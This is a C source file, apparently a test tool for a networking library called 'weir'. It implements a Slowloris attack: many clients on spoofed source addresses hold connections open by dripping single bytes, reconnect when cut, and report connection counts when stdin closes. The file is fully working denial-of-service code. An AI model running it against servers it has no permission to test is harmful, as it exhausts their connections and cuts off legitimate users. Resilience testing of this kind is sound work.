/*
 * Slowloris: clients that send a byte now and then and never come to the end of what they say. Who is cut, or refused,
 * comes again after a second. They go on until stdin ends; then one line says how often they connected, and how often they were cut.
 *
 *     slow ENDPOINT NETWORK SOURCES CLIENTS      they come from NETWORK.1 to NETWORK.SOURCES, in turn: 10.1.2 200 5000
 *
 * A line on stdout says when each has tried to connect once.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <weir/weir.h>

#define BETWEEN_BYTES         WEIR_MS(200)
#define BEFORE_IT_COMES_AGAIN WEIR_S(1)

static struct {
    const char *endpoint, *network;
    unsigned long sources, clients, tried;
    bool stop;
    unsigned long connected, cut, failed;
} slow;

static weir_conn *connect_from(size_t client)
{
    char from[64];
    snprintf(from, sizeof from, "%s.%lu", slow.network, 1 + client % slow.sources);
    weir_connect_options options = {.size = sizeof options, .bind = from, .timeout = WEIR_S(5)};
    return weir_connect(slow.endpoint, &options);
}

/* Until the server has had enough of it. What it answers meanwhile is taken. */
static void drip(weir_conn *conn)
{
    char answer[64];
    ssize_t received = 1;
    while (!slow.stop && weir_send_all(conn, "x", 1) == 0) {
        int64_t until = weir_deadline(BETWEEN_BYTES);
        weir_set_deadline(conn, WEIR_READ, until);
        while (weir_now() < until && (received = weir_recv(conn, answer, sizeof answer)) > 0)
            ;
        if (received == 0 || (received < 0 && errno != ETIMEDOUT))
            break;
    }
    slow.cut += !slow.stop;
}

static void attack_once(size_t client, bool first)
{
    weir_conn *conn = connect_from(client);
    slow.tried += first;
    if (!conn) {
        slow.failed++;
        return;
    }
    slow.connected++;
    drip(conn);
    weir_close(conn);
}

static int attack(void *client)
{
    attack_once((size_t)(intptr_t)client, true);
    while (!slow.stop) {
        weir_sleep(BEFORE_IT_COMES_AGAIN);
        attack_once((size_t)(intptr_t)client, false);
    }
    return 0;
}

static int tell_when_all_have_tried(void *arg)
{
    (void)arg;
    while (slow.tried < slow.clients && !slow.stop)
        weir_sleep(WEIR_MS(10));
    printf("all\n");
    fflush(stdout);
    return 0;
}

static int run(void *arg)
{
    char nothing[16];
    weir_fiber_options detached = {.size = sizeof detached, .detached = true};
    (void)arg;
    for (size_t i = 0; i < slow.clients; i++)
        if (!weir_spawn(attack, (void *)(intptr_t)i, &detached))
            abort();
    if (!weir_spawn(tell_when_all_have_tried, NULL, &detached))
        abort();
    while (weir_file_read(weir_stdin(), nothing, sizeof nothing, WEIR_FOREVER) > 0)
        ;
    slow.stop = true;
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    slow.endpoint = argv[1];
    slow.network = argv[2];
    slow.sources = strtoul(argv[3], NULL, 10);
    slow.clients = strtoul(argv[4], NULL, 10);
    int result = weir_run(run, NULL, NULL);
    printf("%lu connected, %lu cut, %lu failed\n", slow.connected, slow.cut, slow.failed);
    return result;
}
